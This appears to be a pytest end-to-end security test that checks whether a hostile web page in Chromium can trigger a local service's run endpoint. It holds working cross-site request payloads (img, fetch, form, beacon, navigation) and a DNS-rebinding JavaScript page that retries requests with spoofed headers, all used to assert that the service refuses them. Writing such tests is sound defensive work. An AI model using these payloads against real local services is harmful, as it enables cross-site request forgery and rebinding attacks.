"""A web page cannot start a run from a browser, whatever it tries.

The browser is real Chromium at another machine's address, because browsers trust loopback more.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.e2e import access, stub
from tests.e2e.browser import Site, chromium
from tests.lab.lab import Lab
from tests.lab.machine import Machine
from tests.lab.network import Netns

EVIL, EVIL6, VICTIM = "10.77.0.60", "fd77::60", "10.77.0.61"
PORT = 8000

# Each page requests /report/done when the browser has an answer, or has given up.
DONE = f"fetch('http://{EVIL}:{PORT}/report/done', {{mode: 'no-cors'}})"
PAGES = {
    "img": f'<img src="URL" onload="{DONE}" onerror="{DONE}">',
    "img-no-referrer": f'<img src="URL" referrerpolicy="no-referrer" onload="{DONE}" onerror="{DONE}">',
    "script": f'<script src="URL" onload="{DONE}" onerror="{DONE}"></script>',
    "style": f'<link rel="stylesheet" href="URL" onload="{DONE}" onerror="{DONE}">',
    "iframe": f'<iframe src="URL" onload="{DONE}"></iframe>',
    "fetch-get": f"<script>fetch('URL', {{mode: 'no-cors'}}).finally(() => {DONE})</script>",
    "fetch-post": f"<script>fetch('URL', {{mode: 'no-cors', method: 'POST', body: 'async=true', headers:"
    " {'Content-Type': 'application/x-www-form-urlencoded'}, referrerPolicy: 'no-referrer'})"
    f".finally(() => {DONE})</script>",
    "fetch-with-headers": "<script>fetch('URL', {mode: 'no-cors', headers: {'Accept-Language': 'x'}})"
    f".finally(() => {DONE})</script>",
    "beacon": f"<script>navigator.sendBeacon('URL'); setTimeout(() => {DONE}, 500)</script>",
    "form-get": '<form id="g" action="URL" target="f"></form>'
    f'<iframe name="f" onload="this.n ? {DONE} : (this.n = 1, g.submit())"></iframe>',
    "form-post": '<form id="g" action="URL" method="POST" target="f"><input name="async" value="true"></form>'
    f'<iframe name="f" onload="this.n ? {DONE} : (this.n = 1, g.submit())"></iframe>',
    "prefetch": f'<link rel="prefetch" href="URL" onload="{DONE}" onerror="{DONE}">',
    "navigation": "<script>location = 'URL'</script>",
}


@pytest.fixture(scope="session")
def evil(lab: Lab) -> Netns:
    return lab.client(EVIL, EVIL6)


@pytest.fixture(scope="session")
def victim(lab: Lab) -> Netns:
    netns = lab.client(VICTIM, "fd77::61")
    # Chromium uses IPv6 only if there is a default route.
    netns.run("ip", "-6", "route", "add", "default", "via", "fd77::1")
    return netns


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_web_page_starts_no_run(stub_node12: Machine, evil: Netns, victim: Netns, page: str) -> None:
    before, cursor = access.handlers_started(stub_node12), access.journal_cursor(stub_node12)
    site = Site(evil, EVIL, PORT)
    site.page = f"<!doctype html><body>{page}</body>".replace(
        "URL", f"http://{stub_node12.address}:2023/puppet/twitch"
    )
    try:
        with chromium(victim, f"http://{EVIL}:{PORT}/"):
            if "report" in page:
                site.reports.get(timeout=60)
                stub_node12.run("systemctl", "stop", "puppet-twitch.service")  # which logs refusals at once
            access.await_refusal(stub_node12, cursor, VICTIM)
    finally:
        site.close()
    assert access.handlers_started(stub_node12) == before
    assert stub.stub_log(stub_node12) == []
    # curl may, from the same address.
    assert access.remote(victim, f"http://{stub_node12.address}:2023/puppet/twitch").status == 202


REBOUND = """\
<!doctype html><script>
const report = text => fetch('http://EVIL:8000/report/' + encodeURIComponent(text), {mode: 'no-cors'});
const attempts = [
  {}, {method: 'POST'}, {referrerPolicy: 'no-referrer'}, {method: 'POST', referrerPolicy: 'no-referrer'},
  {headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
  {method: 'POST', headers: {'Accept-Language': '', 'User-Agent': 'curl/8'}, referrerPolicy: 'no-referrer'},
];
(async () => {
  await report('loaded');
  for (;;) {  // until the name leads to the node
    try {
      if ((await (await fetch('/info')).text()).startsWith('Puppet Twitch')) break;
    } catch {}
    await new Promise(later => setTimeout(later, 100));
  }
  const answers = [];
  for (const attempt of attempts) {
    const answer = await fetch('/puppet/twitch', attempt);
    answers.push(answer.status + ' ' + await answer.text());
  }
  await report('answers ' + answers.join('|'));
})();
</script>
"""


def test_dns_rebinding_starts_no_run(
    stub_node12: Machine, evil: Netns, victim: Netns, tmp_path: Path
) -> None:
    # The name has two addresses: when the site stops at the first, the browser tries the second.
    hosts = tmp_path / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{stub_node12.address} rebound.test\n")
    prefix = ("unshare", "--mount", "sh", "-c", f'mount --bind {hosts} /etc/hosts && exec "$@"', "sh")
    before = access.handlers_started(stub_node12)
    other_site = Site(evil, EVIL, PORT)
    site = Site(evil, EVIL6, 2023)
    site.page = REBOUND.replace("EVIL", EVIL)
    try:
        with chromium(victim, "http://rebound.test:2023/", prefix=prefix):
            assert other_site.reports.get(timeout=60) == "loaded"
            site.close()
            answers = unquote(other_site.reports.get(timeout=60))
    finally:
        other_site.close()
    assert answers == "answers " + "|".join(["403 Not from a browser; use curl\n"] * 6)
    assert access.handlers_started(stub_node12) == before
    assert stub.stub_log(stub_node12) == []
